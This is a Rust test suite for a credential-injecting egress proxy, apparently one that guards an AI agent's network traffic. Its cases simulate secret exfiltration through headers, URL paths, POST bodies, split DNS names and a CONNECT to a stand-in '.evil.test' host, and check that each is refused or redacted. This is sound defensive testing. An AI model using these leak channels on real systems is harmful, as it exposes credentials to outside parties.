//! The credential goes where it belongs, once, and nowhere else.

use std::io::Write as _;
use std::sync::Arc;

use serde_json::json;

use crate::world::{
    Handler, Message, PLACEHOLDER, SECRET, Stream, World, ask, credentialed, discreet, echo, get,
    read_message, slots,
};

/// HTTP/1 and HTTP/2, with a destination that keeps the credential to itself.
fn worlds() -> [World; 2] {
    worlds_with(discreet)
}

fn worlds_with(
    handler: impl Fn(&Message, &mut dyn Stream) -> bool + Send + Sync + 'static,
) -> [World; 2] {
    let routes =
        json!([credentialed("api.example.com"), {"host": "other.example.com", "ports": [443]}]);
    let handler: Arc<Handler> = Arc::new(handler);
    World::both(&routes, &handler)
}

#[test]
fn it_is_put_in_and_the_agents_own_are_taken_out() {
    for world in worlds() {
        for headers in [
            String::new(),
            format!("x-api-key: {PLACEHOLDER}\r\n"),
            format!("x-api-key: {PLACEHOLDER}\r\nconnection: x-api-key, close\r\n"),
            "authorization: Bearer mine\r\ncookie: a=b\r\nproxy-authorization: Basic eDp5\r\n"
                .to_owned(),
        ] {
            world.request("api.example.com", &get("api.example.com", "/", &headers));
            let seen = world.seen().pop().unwrap();
            assert_eq!(seen.all("x-api-key"), [SECRET], "{headers}");
            assert_eq!(seen.all("accept-encoding"), ["identity"]);
            for gone in [
                "authorization",
                "cookie",
                "proxy-authorization",
                "connection",
            ] {
                assert!(seen.all(gone).is_empty(), "{gone}: {seen:?}");
            }
        }
        assert_eq!(world.records(4)[0]["slot"], "EGRESS_TOKEN_0");
    }
}

#[test]
fn it_goes_to_no_other_destination() {
    for world in worlds() {
        world.request(
            "other.example.com",
            &get("other.example.com", "/", "authorization: Bearer mine\r\n"),
        );
        let seen = world.seen().pop().unwrap();
        assert!(!format!("{seen:?}").contains(SECRET));
        assert_eq!(seen.all("authorization"), ["Bearer mine"]);
    }
}

#[test]
fn misuse_is_refused_and_never_sent() {
    for world in worlds() {
        let post = |host: &str, body: &str| {
            format!(
                "POST / HTTP/1.1\r\nhost: {host}\r\ncontent-length: {}\r\n\r\n{body}",
                body.len()
            )
        };
        let (api, other) = ("api.example.com", "other.example.com");
        let cases = [
            (
                api,
                get(api, "/", "x-api-key: sk-mine\r\n"),
                "foreign_credential",
            ),
            (
                api,
                get(api, "/", &format!("x-other: {PLACEHOLDER}\r\n")),
                "placeholder_misuse",
            ),
            (
                api,
                get(api, &format!("/?k={PLACEHOLDER}"), ""),
                "placeholder_misuse",
            ),
            (
                other,
                get(other, "/", &format!("x-api-key: {PLACEHOLDER}\r\n")),
                "placeholder_misuse",
            ),
            (
                other,
                get(other, "/", &format!("x-api-key: {SECRET}\r\n")),
                "secret_leak",
            ),
            (other, get(other, &format!("/{SECRET}"), ""), "secret_leak"),
            (other, post(other, &format!("a={SECRET}&b")), "secret_leak"),
            (
                other,
                post(other, &format!("a={PLACEHOLDER}&b")),
                "placeholder_misuse",
            ),
            (api, post(api, &format!("a={SECRET}&b")), "secret_leak"),
        ];
        for (host, raw, reason) in cases {
            let answer = world.request(host, &raw);
            assert_eq!(
                (answer.status(), answer.reason().as_str()),
                (403, reason),
                "{raw}"
            );
        }
        assert!(!format!("{:?}", world.seen()).contains(SECRET));
        // An agent that reads its environment repeats the placeholder in the conversation.
        let answer = world.request(api, &post(api, &format!("{{\"text\":\"{PLACEHOLDER}\"}}")));
        assert_eq!(answer.status(), 200);
    }
}

#[test]
fn an_echo_is_blacked_out() {
    for world in worlds_with(echo) {
        let answer = world.request("api.example.com", &get("api.example.com", "/", ""));
        assert!(!answer.text().contains(SECRET));
        assert!(
            answer
                .text()
                .contains(&format!("x-api-key: {}\n", "*".repeat(SECRET.len()))),
            "{}",
            answer.text()
        );
        assert_eq!(world.records(1)[0]["reason"], "credential_reflected");
    }
}

#[test]
fn an_echo_in_pieces_or_in_the_head_is_blacked_out() {
    let handler = |message: &Message, stream: &mut dyn Stream| {
        let secret = message.all("x-api-key")[0].to_owned();
        let head = format!(
            "HTTP/1.1 200 OK\r\nlocation: /?k={secret}\r\nset-cookie: a=b\r\nalt-svc: h3\r\ntransfer-encoding: chunked\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).unwrap();
        for byte in format!("<{secret}>").bytes() {
            stream
                .write_all(&[b'1', b'\r', b'\n', byte, b'\r', b'\n'])
                .unwrap();
            stream.flush().unwrap();
        }
        stream.write_all(b"0\r\n\r\n").is_ok()
    };
    for world in worlds_with(handler) {
        let answer = world.request("api.example.com", &get("api.example.com", "/", ""));
        let stars = "*".repeat(SECRET.len());
        assert_eq!(answer.text(), format!("<{stars}>"));
        assert_eq!(answer.all("location"), [format!("/?k={stars}")]);
        assert!(answer.all("set-cookie").is_empty() && answer.all("alt-svc").is_empty());
    }
}

#[test]
fn a_compressed_answer_is_refused() {
    let handler = |_: &Message, stream: &mut dyn Stream| {
        stream
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 1\r\n\r\nx")
            .is_ok()
    };
    for world in worlds_with(handler) {
        let answer = world.request(
            "api.example.com",
            &get("api.example.com", "/", "accept-encoding: gzip\r\n"),
        );
        assert_eq!(
            (answer.status(), answer.reason().as_str()),
            (502, "encoded_response")
        );
    }
}

/// Character by character a value is never there as a whole, and in UTF-16 it is other bytes.
#[test]
fn an_answer_in_parts_or_in_other_characters_is_refused() {
    let handler = |message: &Message, stream: &mut dyn Stream| {
        let kind = message.all("accept")[0].to_owned();
        let secret = message.all("x-api-key")[0].to_owned();
        let body: Vec<u8> = match kind.contains("utf-16") {
            true => secret.bytes().flat_map(|b| [b, 0]).collect(),
            false => secret.into_bytes()[..7].to_vec(),
        };
        let status = match message.all("range").is_empty() {
            true => "200 OK",
            false => "206 Partial Content",
        };
        let length = body.len();
        write!(
            stream,
            "HTTP/1.1 {status}\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\n\r\n"
        )
        .unwrap();
        // An answer to HEAD has no body.
        message.start.starts_with("HEAD") || stream.write_all(&body).is_ok()
    };
    for world in worlds_with(handler) {
        let ask = |host: &str, method: &str, kind: &str, range: &str| {
            let fields = format!("accept: {kind}\r\n{range}");
            let raw = get(host, "/", &fields).replacen("GET", method, 1);
            world.request(host, &raw)
        };
        let range = "range: bytes=0-6\r\n";
        for (kind, range, reason) in [
            ("text/plain", range, "partial_response"),
            ("application/json", range, "partial_response"),
            (
                "multipart/byteranges; boundary=x",
                range,
                "partial_response",
            ),
            ("text/plain; charset=utf-16", "", "encoded_response"),
        ] {
            let answer = ask("api.example.com", "GET", kind, range);
            assert_eq!(
                (answer.status(), answer.reason().as_str()),
                (502, reason),
                "{kind}"
            );
        }
        // A download that goes on where it was broken off.
        let answer = ask("api.example.com", "GET", "application/octet-stream", range);
        assert_eq!(
            (answer.status(), answer.body.as_slice()),
            (206, &SECRET.as_bytes()[..7])
        );
    }
    // Where there is no credential there is nothing to hide.
    let routes = json!([{"host": "api.example.com", "ports": [443]}]);
    let world = World::with(&routes, Arc::new(handler));
    let fields = "accept: text/plain\r\nx-api-key: not-a-secret\r\nrange: bytes=0-6\r\n";
    let answer = world.request("api.example.com", &get("api.example.com", "/", fields));
    assert_eq!(answer.status(), 206);
}

/// What has no body need not be looked through.
#[test]
fn a_head_that_says_it_is_compressed_is_handed_on() {
    let handler = |_: &Message, stream: &mut dyn Stream| {
        stream
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 9\r\n\r\n")
            .is_ok()
    };
    let world = World::with(&json!([credentialed("api.example.com")]), Arc::new(handler));
    let mut stream = world.tunnel("api.example.com", 443);
    for _ in 0..2 {
        let raw = get("api.example.com", "/", "").replacen("GET", "HEAD", 1);
        stream.write_all(raw.as_bytes()).unwrap();
        let answer = read_message(&mut stream, false).unwrap();
        assert_eq!(
            (answer.status(), answer.all("content-length")),
            (200, vec!["9"])
        );
    }
}

/// The name of a host below a wildcard is asked of name servers, and said to the destination before any request.
#[test]
fn no_secret_is_in_a_name_that_is_looked_up() {
    let wild = json!({"source": "demo.yaml:9", "host": "*.wild.example.com", "ports": [443]});
    let passed = json!({"source": "demo.yaml:10", "host": "*.pinned.example.com", "ports": [443], "tls": "passthrough"});
    let routes = json!([credentialed("api.example.com"), wild, passed]);
    let world = World::with(&routes, Arc::new(echo));
    let split = format!("{}.{}", &SECRET[..11], &SECRET[11..]);
    let hosts = [
        format!("{SECRET}.wild.example.com"),
        format!("{split}.wild.example.com"),
        format!("{PLACEHOLDER}.pinned.example.com"),
    ];
    for (host, reason) in hosts
        .iter()
        .zip(["secret_leak", "secret_leak", "placeholder_misuse"])
    {
        let answer = world.ask_proxy(&format!(
            "CONNECT {host}:443 HTTP/1.1\r\nhost: {host}:443\r\n\r\n"
        ));
        assert_eq!(
            (answer.status(), answer.reason().as_str()),
            (403, reason),
            "{host}"
        );
        let mut stream = world.transparent(host);
        assert!(
            stream
                .write_all(b"x")
                .and_then(|()| stream.flush())
                .is_err()
        );
    }
    // Nor is it on record, wherever else it was put.
    world.ask_proxy(&format!("CONNECT {SECRET}.evil.test:443 HTTP/1.1\r\n\r\n"));
    world.ask_proxy(&format!(
        "{SECRET} http://api.example.com/ HTTP/1.1\r\n\r\n"
    ));
    let broken = SECRET.replacen('-', "-%20", 1);
    world.request(
        "api.example.com",
        &get("api.example.com", &format!("/{broken}"), ""),
    );
    let text = format!("{:?}", world.records(9));
    assert!(!text.contains(SECRET) && !text.contains(&broken), "{text}");
    assert!(text.contains("REDACTED"), "{text}");
    // The one name that was looked up is the last request's.
    assert_eq!(world.network.log()[0], "resolve api.example.com");
}

#[test]
fn an_empty_slot_fails_closed() {
    let mut route = credentialed("api.example.com");
    route["auth"]["slot"] = "EGRESS_TOKEN_9".into();
    let world = World::with(&json!([route]), Arc::new(echo));
    let answer = world.request("api.example.com", &get("api.example.com", "/", ""));
    assert_eq!(
        (answer.status(), answer.reason().as_str()),
        (502, "credential_unavailable")
    );
    assert!(world.seen().is_empty());
}

#[test]
fn a_route_whose_destination_keeps_sending_it_back_is_closed() {
    for world in worlds_with(echo) {
        let ask = || world.request("api.example.com", &get("api.example.com", "/", ""));
        // Sixteen sightings; this destination puts it into a header and the body of each answer.
        let answered = (0..17).take_while(|_| ask().status() == 200).count();
        assert!((8..=16).contains(&answered), "{answered}");
        let answer = ask();
        assert_eq!(
            (answer.status(), answer.reason().as_str()),
            (403, "route_suspended")
        );
        assert_eq!(world.seen().len(), answered);
        // Opening another route does not open this one; writing it anew does.
        let mut route = credentialed("api.example.com");
        world.write_policy(&json!([route.clone()]));
        let running = world.running.as_ref().unwrap();
        running.reload(&slots).unwrap();
        assert_eq!(ask().reason(), "route_suspended");
        route["source"] = "demo.yaml:8".into();
        world.write_policy(&json!([route]));
        running.reload(&slots).unwrap();
        assert_eq!(ask().status(), 200);
    }
}

/// One sighting in a long answer is one, however many pieces come after it.
#[test]
fn a_long_answer_is_not_taken_for_many_sightings() {
    let handler = |_: &Message, stream: &mut dyn Stream| {
        let head = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n";
        let mut piece = format!("{SECRET:4000}");
        stream.write_all(head.as_bytes()).unwrap();
        for _ in 0..100 {
            write!(stream, "{:x}\r\n{piece}\r\n", piece.len()).unwrap();
            stream.flush().unwrap();
            piece = "nothing to see here. ".repeat(200);
        }
        stream.write_all(b"0\r\n\r\n").is_ok()
    };
    let world = World::with(&json!([credentialed("api.example.com")]), Arc::new(handler));
    for _ in 0..2 {
        let answer = world.request("api.example.com", &get("api.example.com", "/", ""));
        assert_eq!(answer.status(), 200);
        assert!(!answer.text().contains(SECRET));
    }
}

#[test]
fn nothing_secret_is_recorded() {
    let [world, _] = worlds();
    let mut stream = world.tunnel("api.example.com", 443);
    ask(
        &mut stream,
        &get("api.example.com", "/?q=private-query", ""),
    );
    ask(
        &mut stream,
        &get("api.example.com", &format!("/{SECRET}"), ""),
    );
    world.request(
        "other.example.com",
        &get("other.example.com", "/", &format!("x: {SECRET}\r\n")),
    );
    let records = world.records(3);
    let text = format!("{records:?}");
    assert!(
        !text.contains(SECRET) && !text.contains("private-query"),
        "{text}"
    );
}
